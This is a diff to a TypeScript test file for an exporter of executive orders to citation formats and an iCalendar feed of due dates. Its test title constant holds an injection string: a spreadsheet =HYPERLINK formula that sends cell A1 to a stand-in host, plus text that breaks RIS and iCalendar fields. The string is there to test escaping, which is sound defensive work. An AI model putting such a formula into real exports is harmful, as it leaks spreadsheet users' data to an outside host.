@@ -25,6 +25,8 @@ import { published } from './edges/lines.ts';
 
 const SAMPLES = fileURLToPath(new URL('../../samples/', import.meta.url));
 const ORDER = 'instrument/us/eo/99002';
+/** Only cited. */
+const UNTITLED = 'instrument/us/eo/2';
 const HOSTILE = 'instrument/us/eo/1';
 /** A formula, quotes, TeX, what ends a field of RIS or iCalendar, and letters of two and four bytes. */
 const TITLE = `=HYPERLINK("http://x.example/?"&A1;1), 100% of {A}_b^c~d\\e & "f" – «é𝄞» ER  - END:VEVENT`;
@@ -67,6 +69,8 @@ beforeAll(async () => {
       `${HOSTILE} issuer ${JSON.stringify(ISSUER)}`,
       `${HOSTILE} signedOn "2026-05"`,
       `${HOSTILE} frCitation "91 FR 12345"`,
+      `${UNTITLED} kind "EXECUTIVE_ORDER"`,
+      `${UNTITLED} number "2"`,
       `${duty} instrument "${HOSTILE}"`,
       `${duty} act ${JSON.stringify(ACT)}`,
       `${duty} modality "SHALL"`,
@@ -145,6 +149,7 @@ describe('citations', () => {
     });
     expect(items.find(({ id }) => id === ORDER)).toMatchObject({ issued: { 'date-parts': [[2026, 9, 8]] } });
     expect(JSON.parse(await exported('instruments', 'csl', 'instrument/us/eo/0'))).toEqual([]);
+    expect(items.find(({ id }) => id === UNTITLED)).toMatchObject({ title: 'Executive Order 2' });
   });
 
   const printed = (text: string): string =>
@@ -227,6 +232,8 @@ describe('the calendar of due dates', () => {
     const text = await exported('obligations', 'ics');
     const lines = text.split('\r\n');
     expect(lines.filter((line) => Buffer.byteLength(line) > 75 || line.includes('\n'))).toEqual([]);
+    expect(lines.filter((line) => line === 'TRANSP:TRANSPARENT')).toHaveLength(text.split('BEGIN:VEVENT').length - 1);
+    expect(lines).toContain('X-WR-CALNAME:Recital: due dates');
     expect([lines[0], lines.at(-2), lines.at(-1)]).toEqual(['BEGIN:VCALENDAR', 'END:VCALENDAR', '']);
     expect(await exported('obligations', 'ics')).toBe(text);
   });
